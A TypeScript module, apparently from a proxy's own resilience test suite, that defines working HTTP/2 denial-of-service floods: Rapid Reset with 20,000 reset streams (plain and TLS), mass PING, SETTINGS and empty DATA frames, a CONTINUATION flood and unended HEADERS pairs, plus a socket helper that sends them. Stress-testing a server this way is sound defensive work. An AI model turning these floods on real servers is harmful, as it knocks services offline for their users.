// Frames that cost a client next to nothing.
import type net from 'node:net'
import { setTimeout as after } from 'node:timers/promises'
import { frameType } from '../../../src/proxy/frames/frame.ts'
import {
  fields,
  flag,
  frame,
  requestFields,
} from '../../../src/testing/proxy/client-side/frames.ts'
import type { Attack, TargetPorts } from '../attack.ts'
import { closed, openHttp2, openHttp2Tls, writeAll } from '../connections.ts'

const head = requestFields({ ':authority': 'a.example' })
const streams = Array.from({ length: 20_000 }, (_, index) => 2 * index + 1)

export const unendedTrailers: Attack = flood({
  name: 'HTTP/2: pairs of HEADERS that never end their stream',
  bytes: () =>
    Buffer.concat(
      streams
        .slice(0, 50)
        .flatMap((stream) => [
          frame(frameType.headers, flag.endHeaders, stream, head),
          frame(frameType.headers, flag.endHeaders, stream, fields(['x', 'y'])),
        ]),
    ),
})

export const rapidReset: Attack = flood({
  name: 'HTTP/2: 20,000 requests, each reset at once',
  bytes: resets,
})

export const rapidResetTls: Attack = flood({
  name: 'HTTP/2 over TLS: 20,000 requests, each reset at once',
  bytes: resets,
  open: ({ https }) => openHttp2Tls(https),
})

export const pings: Attack = flood({
  name: 'HTTP/2: 200,000 PING frames',
  bytes: () => repeated(frame(frameType.ping, 0, 0, Buffer.alloc(8)), 200_000),
})

export const settings: Attack = flood({
  name: 'HTTP/2: 200,000 empty SETTINGS frames',
  bytes: () => repeated(frame(frameType.settings, 0, 0), 200_000),
})

export const emptyData: Attack = flood({
  name: 'HTTP/2: 200,000 empty DATA frames',
  bytes: () =>
    Buffer.concat([
      frame(frameType.headers, flag.endHeaders, 1, requestFields({ ':method': 'POST' })),
      repeated(frame(frameType.data, 0, 1), 200_000),
    ]),
})

export const continuations: Attack = flood({
  name: 'HTTP/2: a head of 20,000 CONTINUATION frames',
  bytes: () =>
    Buffer.concat([
      frame(frameType.headers, 0, 1, head),
      repeated(frame(frameType.continuation, 0, 1, fields(['x', 'y'.repeat(100)])), 20_000),
    ]),
})

function flood(of: {
  readonly name: string
  bytes(): Buffer
  open?(ports: TargetPorts): Promise<net.Socket | undefined>
}): Attack {
  const { name, bytes, open = ({ h2c }) => openHttp2(h2c) } = of
  return {
    name,
    async run(ports) {
      const all = bytes()
      const socket = await open(ports)
      if (socket === undefined) return
      socket.resume()
      await writeAll(socket, [all])
      socket.end()
      await Promise.race([closed(socket), after(500)])
      socket.destroy()
    },
  }
}

function resets(): Buffer {
  const cancel = Buffer.from([0, 0, 0, 8])
  return Buffer.concat(
    streams.flatMap((stream) => [
      frame(frameType.headers, flag.endHeaders | flag.endStream, stream, head),
      frame(frameType.reset, 0, stream, cancel),
    ]),
  )
}

function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.alloc(bytes.length * times, bytes)
}
